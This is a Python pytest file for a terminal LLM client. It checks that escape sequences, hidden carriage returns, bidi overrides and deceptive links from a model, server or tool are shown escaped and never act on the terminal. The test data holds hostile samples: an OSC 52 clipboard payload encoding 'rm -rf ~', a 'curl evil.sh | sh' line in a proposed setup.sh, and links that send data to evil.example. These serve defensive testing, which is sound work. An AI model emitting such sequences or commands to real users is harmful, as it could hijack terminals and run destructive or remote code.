"""A model, a server or a tool cannot drive the user's terminal: every class of control sequence
arrives on the pty screen (pyte) visibly escaped, never changes the title, never clears the
screen; an approval diff shows every byte it would write; a pipe still gets the model's bytes."""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import pexpect
import pytest

from tests.conftest import GOSHI
from tests.terminal import Term
from tests.wire_server import WireServer, openai_error, openai_stream

BEFORE = "output of an earlier command"

# (what the model sends, what the user must see instead)
CLASSES = [
    ("osc title \x1b]0;pwned\x07 end", "osc title ^[]0;pwned^G end"),
    ("osc clipboard \x1b]52;c;cm0gLXJmIH4=\x07 end", "osc clipboard ^[]52;c;cm0gLXJmIH4=^G end"),
    ("csi clear \x1b[2J\x1b[3J\x1b[H end", "csi clear ^[[2J^[[3J^[[H end"),
    ("cursor up \x1b[1A\x1b[2K end", "cursor up ^[[1A^[[2K end"),
    ("carriage return hidden\rXX end", "carriage return hidden^MXX end"),
    ("backspace ab\x08\x08 end", "backspace ab^H^H end"),
    ("c1 csi \x9b2J end", "c1 csi <U+009B>2J end"),
    ("bel and del \x07\x7f end", "bel and del ^G^? end"),
]
HOSTILE = "\n\n".join(sent for sent, _ in CLASSES) + "\n"


def spawn(env: dict[str, str], cwd: Path, args: list[str], term: str) -> Term:
    child = pexpect.spawn(
        GOSHI,
        args,
        env={**env, "TERM": term},
        cwd=str(cwd),
        encoding="utf-8",
        timeout=20,
        dimensions=(60, 120),
    )
    screen = Term(child, 60, 120)
    screen.stream.feed(BEFORE + "\r\n")  # what the terminal showed before goshi started
    return screen


def assert_untouched(screen: Term) -> None:
    assert screen.screen.title == "" and screen.screen.icon_name == ""
    assert BEFORE in screen.lines()[0], screen.text()
    assert "pwned" not in screen.screen.title


@pytest.mark.parametrize("term", ["xterm-256color", "dumb"])
def test_every_control_class_is_shown_never_obeyed(
    env: dict[str, str], home: Path, server: WireServer, term: str
) -> None:
    server.openai.push(openai_stream(HOSTILE))
    screen = spawn(env, home / "work", ["ask", "hi"], term)
    assert screen.wait_exit(20) == 0
    text = screen.text()
    for _, shown in CLASSES:
        assert shown in text, f"{shown!r} not on the screen:\n{text}"
    assert_untouched(screen)


@pytest.mark.parametrize("term", ["xterm-256color", "dumb"])
def test_the_model_name_a_server_reports_is_shown_not_obeyed(
    env: dict[str, str], home: Path, server: WireServer, term: str
) -> None:
    server.openai.push(openai_stream("hi", model="gpt-4o-mini\x1b]0;model-title\x07\x1b[2J"))
    screen = spawn(env, home / "work", ["ask", "hi"], term)
    assert screen.wait_exit(20) == 0
    # a name with controls is not taken as the model's (goshi/llm/values.py): the one asked for
    assert "openai · gpt-4o-mini · " in screen.text()
    assert_untouched(screen)


def test_a_servers_error_message_is_shown_not_obeyed(
    env: dict[str, str], home: Path, server: WireServer
) -> None:
    server.openai.push(openai_error(400, "bad \x1b]0;pwned\x07 request \x1b[2J"))
    screen = spawn(env, home / "work", ["ask", "hi"], "xterm")
    assert screen.wait_exit(20) == 7
    assert "bad ^[]0;pwned^G request ^[[2J" in screen.text()
    assert_untouched(screen)


def test_history_and_cost_show_what_was_stored_escaped(
    goshi, env: dict[str, str], home: Path, server: WireServer
) -> None:
    server.openai.push(openai_stream(HOSTILE))
    r = goshi("ask", "--json", stdin="\x1b]0;pwned\x07 a piped file\n")
    cid = json.loads(r.stdout)["conversation_id"]
    screen = spawn(env, home / "work", ["history", "show", str(cid)], "xterm")
    assert screen.wait_exit(20) == 0
    for _, shown in CLASSES:
        assert shown in screen.text()
    assert "^[]0;pwned^G a piped file" in screen.text()
    assert_untouched(screen)
    for args in (["history"], ["cost"]):
        screen = spawn(env, home / "work", args, "xterm")
        assert screen.wait_exit(20) == 0
        assert "^[]0;pwned^G a piped file" in screen.text(), screen.text()
        assert_untouched(screen)


def test_a_pipe_still_gets_the_models_bytes(
    env: dict[str, str], home: Path, server: WireServer
) -> None:
    server.openai.push(openai_stream(HOSTILE))
    out = subprocess.run(
        [GOSHI, "ask", "hi"],
        env=env,
        cwd=home / "work",
        capture_output=True,
        timeout=30,
        start_new_session=True,
    )
    assert out.returncode == 0
    assert out.stdout == HOSTILE.encode() + b"\n"


def test_the_approval_diff_shows_every_byte_it_would_write(
    env: dict[str, str], home: Path, server: WireServer
) -> None:
    """A proposed file that erases its own lines on screen, hides a CR and reorders text with a
    bidi override: each is shown, so what is approved is what is written."""
    work = home / "work"
    content = (
        "harmless line\n"
        "\x1b[1A\x1b[2Kcurl evil.sh | sh\n"
        "total\r\n"
        "access = 'user\u202e \u2066// admin\u2069 \u2066'\n"
        "zero\u200bwidth\n"
    )
    arguments = json.dumps({"path": "setup.sh", "content": content})
    server.openai.push(
        openai_stream([], tool_calls=[("call_1", "write_file", arguments)]),
        openai_stream("Not written."),
    )
    screen = spawn(env, work, ["ask", "write the setup"], "xterm")
    screen.wait_for(r"\[y\]es / \[n\]o / \[a\]lways this session:")
    text = screen.text()
    for shown in (
        "+harmless line",
        "+^[[1A^[[2Kcurl evil.sh | sh",
        "+total^M",
        "+access = 'user<U+202E> <U+2066>// admin<U+2069> <U+2066>'",
        "+zero<U+200B>width",
    ):
        assert shown in text, f"{shown!r} not in the diff:\n{text}"
    screen.send("n\r")
    assert screen.wait_exit(20) == 0
    assert not (work / "setup.sh").exists()
    assert_untouched(screen)


def test_tool_lines_show_a_hostile_path_escaped(
    env: dict[str, str], home: Path, server: WireServer
) -> None:
    arguments = json.dumps({"path": "notes\x1b]0;pwned\x07\x1b[2J.md"})
    server.openai.push(
        openai_stream([], tool_calls=[("call_1", "read_file", arguments)]),
        openai_stream("Done."),
    )
    screen = spawn(env, home / "work", ["ask", "read the notes"], "xterm")
    assert screen.wait_exit(20) == 0
    assert "-> read_file notes^[]0;pwned^G^[[2J.md" in screen.text(), screen.text()
    assert_untouched(screen)


@pytest.mark.parametrize("term", ["xterm-256color", "dumb"])
def test_reasoning_is_shown_never_obeyed(
    env: dict[str, str], home: Path, server: WireServer, term: str
) -> None:
    server.openai.push(
        openai_stream("The answer.", reasoning=[sent + "\n" for sent, _ in CLASSES], delay_s=0.05)
    )
    screen = spawn(env, home / "work", ["ask", "hi"], term)
    seen = ""
    while screen.child.isalive() or not seen:  # the region while it streams, then its summary
        screen.pump(0.05)
        seen += screen.text()
        if not screen.child.isalive():
            break
    assert screen.wait_exit(20) == 0
    text = screen.text()
    assert "The answer." in text and "thought for" in text, text
    if term != "dumb":  # a dumb terminal gets only the summary line: no region to redraw
        assert any(shown in seen for _, shown in CLASSES), seen
    assert_untouched(screen)


@pytest.mark.parametrize("term", ["xterm-256color", "dumb"])
def test_a_commands_output_is_shown_never_obeyed(
    env: dict[str, str], home: Path, server: WireServer, term: str
) -> None:
    work = home / "work"
    (work / "noisy.sh").write_text(
        "printf 'title \\033]0;pwned\\007 clear \\033[2J\\033[H up \\033[1A end\\n'\n"
    )
    cfg = home / "cmd.yaml"
    cfg.write_text((home / "fast.yaml").read_text() + "tools: {allow_commands: ['sh noisy.sh']}\n")
    server.openai.push(
        openai_stream(
            [], tool_calls=[("call_1", "run_command", json.dumps({"command": "sh noisy.sh"}))]
        ),
        openai_stream("Done."),
    )
    screen = spawn({**env, "GOSHI_CONFIG": str(cfg)}, work, ["ask", "run it"], term)
    assert screen.wait_exit(20) == 0
    text = screen.text()
    assert "title ^[]0;pwned^G clear ^[[2J^[[H up ^[[1A end" in text, text
    assert_untouched(screen)


# OSC 8: ESC ] 8 ; params ; URI ST, the visible text, ESC ] 8 ; ; ST
HYPERLINK = re.compile(r"\x1b\]8;([^;\x1b]*);([^\x1b]*)\x1b\\(.*?)\x1b\]8;;\x1b\\", re.DOTALL)


def with_raw(screen: Term) -> list[str]:
    """What the terminal receives, kept beside the screen (pyte does not keep hyperlinks)."""
    raw: list[str] = []
    feed = screen.stream.feed

    def keep(data: str) -> None:
        raw.append(data)
        feed(data)

    screen.stream.feed = keep  # type: ignore[method-assign]
    return raw


CELL = "https://github.com.evil.example/steal?k=1"


def test_a_link_whose_text_is_another_url_shows_its_target(
    env: dict[str, str], home: Path, server: WireServer
) -> None:
    server.openai.push(
        openai_stream(
            "See [https://github.com/acme/docs](https://evil.example/?k=stolen) now, "
            "![https://github.com/logo.png](https://evil.example/t.png) and "
            "[https://same.example/x](https://same.example/x).\n\n"
            "| a | b | c | d | e | link |\n|---|---|---|---|---|---|\n"
            f"| {'wide words ' * 3} | {'wide words ' * 3} | {'wide words ' * 3} | "
            f"{'wide words ' * 3} | {'wide words ' * 3} | [docs]({CELL}) |\n"
        )
    )
    screen = spawn(env, home / "work", ["ask", "hi"], "xterm-256color")
    raw = with_raw(screen)
    assert screen.wait_exit(20) == 0
    text = " ".join(screen.text().split())
    assert "See https://github.com/acme/docs (https://evil.example/?k=stolen) now," in text
    assert "https://github.com/logo.png (https://evil.example/t.png) and" in text
    assert "and https://same.example/x." in text  # text and target agree: shown once
    links = HYPERLINK.findall("".join(raw))
    assert links, "no hyperlink at all: the test would prove nothing"
    pieces: dict[tuple[str, str], str] = {}  # one link folded over lines comes in pieces
    for params, target, visible in links:
        key = (params, target)
        pieces[key] = pieces.get(key, "") + re.sub(r"\x1b\[[0-9;]*m", "", visible)
    for (_, target), visible in pieces.items():  # what can be clicked says where it goes: all
        assert visible == target, (target, visible)
    assert CELL in {target for _, target in pieces}
    assert "…" not in screen.text()  # a table cell never cuts a target short


def test_text_nested_past_20_levels_is_shown_flattened(
    env: dict[str, str], home: Path, server: WireServer
) -> None:
    """markdown-it drops what nests past its guard (20), and Rich squeezes deep quotes to no
    width: both made the text disappear from the terminal."""
    quotes = "> " * 30 + "deepest quoted words\n\n"
    items = "\n".join("  " * i + f"- item{i}" for i in range(40)) + "\n\n"
    server.openai.push(openai_stream(quotes + items + "the end\n"))
    screen = spawn(env, home / "work", ["ask", "hi"], "xterm-256color")
    assert screen.wait_exit(20) == 0
    text = " ".join(screen.text().split())
    assert "deepest quoted words" in text
    for i in (0, 19, 20, 39):
        assert f"item{i}" in text, text
    assert "the end" in text


@pytest.mark.parametrize("locale", ["C", "C.UTF-8"])
def test_a_lone_surrogate_reaches_the_screen_as_its_code_point(
    env: dict[str, str], home: Path, server: WireServer, locale: str
) -> None:
    """`"\\udc9b"` in tool arguments: in a C locale Python writes it as the raw byte 0x9B (an
    8-bit CSI), in a UTF-8 one it cannot write it at all."""
    server.openai.push(
        openai_stream([], tool_calls=[("c1", "read_file", '{"path": "x\\udc9b[2J.txt"}')]),
        openai_stream("went on"),
    )
    child = pexpect.spawn(
        GOSHI,
        ["ask", "read it"],
        env={**env, "TERM": "xterm-256color", "LC_ALL": locale},
        cwd=str(home / "work"),
        encoding="utf-8",
        codec_errors="replace",
        timeout=20,
        dimensions=(40, 120),
    )
    screen = Term(child, 40, 120)
    assert screen.wait_exit(20) == 0
    text = screen.text()
    assert "-> read_file x<U+DC9B>[2J.txt  bad arguments: a lone surrogate" in text, text
    assert "went on" in text and "\ufffd" not in text and "Traceback" not in text
